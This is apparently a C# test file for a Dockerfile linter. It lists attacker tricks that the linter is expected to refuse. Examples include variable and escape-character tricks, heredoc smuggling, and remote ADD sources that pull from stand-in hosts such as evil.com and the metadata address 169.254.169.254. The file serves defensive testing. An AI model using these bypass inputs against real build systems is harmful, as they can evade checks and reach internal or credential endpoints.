using Berth.Server.Dockerfiles;

namespace Berth.Server.Tests.Dockerfiles;

/// <summary>An attacker's attempts to make the engine fetch something, or to hide an instruction from lint.</summary>
public sealed class LintBypassTests
{
    private static IReadOnlyList<LintFinding> Lint(string text) => DockerfileLinterTests.Lint(text, "payload.tar");

    [Theory]
    // Variable tricks in FROM.
    [InlineData("ARG B=busybox\nFROM ${B:+evil.com/x}\n", "from-image")]
    [InlineData("FROM ${NOPE:-busybox}\n", "from-image")]
    [InlineData("ARG B=busybox\nFROM ${B:-busybox}\n", "from-image")]
    [InlineData("FROM busybox$UNSET\n", "from-image")]
    [InlineData("ARG B=\"evil.com/x\"\nFROM $B\n", "from-image")]
    [InlineData("ARG A=evil.com/x\nARG B=$A\nFROM $B\n", "from-image")]
    [InlineData("FROM busybox\nARG B=evil.com/x\nFROM $B\n", "from-image")]
    [InlineData("ARG B=bus\nFROM ${B}y\"box\"\n", "from-image")]
    // Case and spelling tricks.
    [InlineData("from evil.com/x\n", "from-image")]
    [InlineData("FrOm busybox\ncopy --FROM=evil.com/x a b\n", "unsupported-flag")]
    [InlineData("FROM busybox\nCOPY --from=\"evil.com\"/x a b\n", "copy-from")]
    [InlineData("FROM busybox\nCOPY --from=evil\\.com/x a b\n", "copy-from")]
    [InlineData("FROM Busybox\n", "from-image")]
    [InlineData("FROM Docker.io/library/busybox\n", "from-image")]
    [InlineData("FROM localhost/busybox\n", "from-image")]
    [InlineData("FROM busybox:latest@sha256:ae39a6f5c07297d7ab64dbd4f82c77c874cc6a94cea29fdec309d0992574b4f7\n", "from-image")]
    [InlineData("FROM SCRATCH\n", "from-image")]
    // Escape directive tricks.
    [InlineData("# escape=`\nFROM busybox\nRUN echo \\\nFROM evil.com/x\n", "from-image")]
    [InlineData("# hello\n# escape=`\nFROM busybox\nRUN echo `\nFROM evil.com/x\n", "from-image")]
    [InlineData("# escape=`\n# escape=\\\nFROM busybox\n", "syntax")]
    // Continuation tricks: only spaces and tabs may follow the escape character.
    [InlineData("FROM busybox\nRUN echo \\\f\nFROM evil.com/x\n", "from-image")]
    [InlineData("FROM busybox\nRUN echo \\\u00a0\nFROM evil.com/x\n", "from-image")]
    [InlineData("FROM busybox\nRUN echo \\\v\nFROM evil.com/x\n", "from-image")]
    [InlineData("FROM busybox\nRUN echo \\\r\r\nFROM evil.com/x\n", "from-image")]
    [InlineData("FROM busybox\nENV A=x\\\\\nFROM evil.com/x\n", "from-image")]
    // Tabs and odd whitespace.
    [InlineData("FROM\tevil.com/x\n", "from-image")]
    [InlineData("\v FROM evil.com/x\n", "from-image")]
    [InlineData("FROM busybox\tAS\tb\nCOPY\t--from=evil.com/x a b\n", "copy-from")]
    // Stages, ids and job images.
    [InlineData("FROM --platform=linux/arm64 busybox\n", "from-platform")]
    [InlineData("FROM busybox\nCOPY --from=0 a b\n", "copy-from")]
    [InlineData("FROM busybox AS a\nCOPY --from=a a b\n", "copy-from")]
    [InlineData("FROM busybox\nCOPY --from=berth-abc/job-x a b\n", "copy-from")]
    [InlineData("FROM busybox\nCOPY --from=7c52 a b\n", "copy-from")]
    [InlineData("FROM 0\n", "from-image")]
    [InlineData("FROM sha256:ae39a6f5c07297d7ab64dbd4f82c77c874cc6a94cea29fdec309d0992574b4f7\n", "from-image")]
    [InlineData("FROM busybox\nRUN --mount=type=bind,from=evil.com/x,target=/x true\n", "run-mount")]
    // Here-document bombs: the body lines are instructions to the classic builder.
    [InlineData("FROM busybox\nRUN <<EOF\nFROM 127.0.0.1:5000/evil AS \\\nEOF\nCMD x\n", "from-image")]
    [InlineData("FROM busybox\nRUN <<EOF\nFROM 127.0.0.1:5000/evil AS \\\nEOF\nCMD x\n", "heredoc")]
    [InlineData("FROM busybox\nCOPY <<EOF /x\nADD http://169.254.169.254/latest /y\nEOF\n", "remote-source")]
    // Remote and archive sources.
    [InlineData("FROM busybox\nADD [\"https://evil/x\", \"/y\"] trailing\n", "remote-source")]
    [InlineData("FROM busybox\nADD h\"ttp\"://evil/x /y\n", "remote-source")]
    [InlineData("FROM busybox\nADD http:\"//\"evil/x /y\n", "add-archive")]
    [InlineData("FROM busybox\nADD http$X//evil/x /y\n", "add-archive")]
    [InlineData("FROM busybox\nADD payload.ta? /y\n", "add-archive")]
    [InlineData("FROM busybox\nADD /./payload.tar /y\n", "add-archive")]
    [InlineData("FROM busybox\nONBUILD ADD http://x/y /z\n", "onbuild")]
    [InlineData("FROM busybox\nHEALTHCHECK CMD wget http://x\n", "healthcheck")]
    [InlineData("ARG BERTH_INSTANCE=x\nFROM busybox\n", "reserved-arg")]
    [InlineData("# syntax=evil.com/frontend\nFROM busybox\n", "syntax-directive")]
    public void Lint_AttackerTrick_IsRefused(string text, string rule) =>
        Assert.Contains(Lint(text), f => f.Rule == rule && f.Severity == LintSeverity.Error);

    [Theory]
    [InlineData("RUN echo hi")]
    [InlineData("COPY --from=busybox /bin/sh /sh")]
    [InlineData("EXPOSE 80")]
    [InlineData("USER root")]
    public void LintTriggers_HarmlessTriggers_HaveNoFindings(string trigger) =>
        Assert.Empty(DockerfileLinter.LintTriggers("busybox", [trigger], DockerfileLinterTests.Allowed));

    [Theory]
    [InlineData("ADD http://x/y /z", "remote-source")]
    [InlineData("ADD local.tar /z", "add-archive")]
    [InlineData("COPY --from=alpine a b", "copy-from")]
    [InlineData("COPY --from=0 a b", "copy-from")]
    [InlineData("RUN --mount=type=cache,target=/x true", "run-mount")]
    [InlineData("ONBUILD RUN x", "onbuild")]
    [InlineData("FROM busybox", "from-image")]
    [InlineData("VOLUME /x", "volume")]
    [InlineData("HEALTHCHECK CMD x", "healthcheck")]
    [InlineData("RUN <<EOF", "heredoc")]
    [InlineData("bogus x", "syntax")]
    [InlineData("RUN a\nRUN b", "onbuild")]
    [InlineData("# escape=`\nRUN a", "onbuild")]
    [InlineData("", "onbuild")]
    public void LintTriggers_RefusedTrigger_IsAnErrorNamingImageAndTrigger(string trigger, string rule)
    {
        var findings = DockerfileLinter.LintTriggers("docker.io/library/busybox:latest", ["RUN true", trigger], DockerfileLinterTests.Allowed);

        var finding = Assert.Single(findings, f => f.Rule == rule);
        Assert.Equal((0, LintSeverity.Error), (finding.Line, finding.Severity));
        Assert.StartsWith("ONBUILD trigger 2 of base image 'docker.io/library/busybox:latest'", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Lint_RandomDockerfiles_NeverThrowAndEveryErrorHasAMessage()
    {
        string[] pieces =
        [
            "FROM ", "from ", "RUN ", "COPY ", "ADD ", "ARG ", "ONBUILD ", "HEALTHCHECK ", "VOLUME ", "USER ", "busybox", "evil.com/x",
            "$", "${", "}", ":-", "B", "=", "\"", "'", "\\", "`", "<<", "EOF", "--from=", "--mount=", "--", "[", "]", ",", "0", "AS ",
            "# escape=`", "# syntax=x", "#", " ", "\t", "\f", "\r", "\n", "\n", "\n", "://", "*", "?", "payload.tar", "/", "..", "é",
        ];
        var random = new Random(7);
        for (var i = 0; i < 2000; i++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(1, 60)).Select(_ => pieces[random.Next(pieces.Length)]));
            var findings = Lint(text);
            Assert.All(findings, f => Assert.False(string.IsNullOrWhiteSpace(f.Message)));
            Assert.NotNull(DockerfileLinter.LintTriggers("busybox", [text], DockerfileLinterTests.Allowed));
            Assert.NotNull(BaseImages.Of(DockerfileParser.Parse(text)));
        }
    }
}
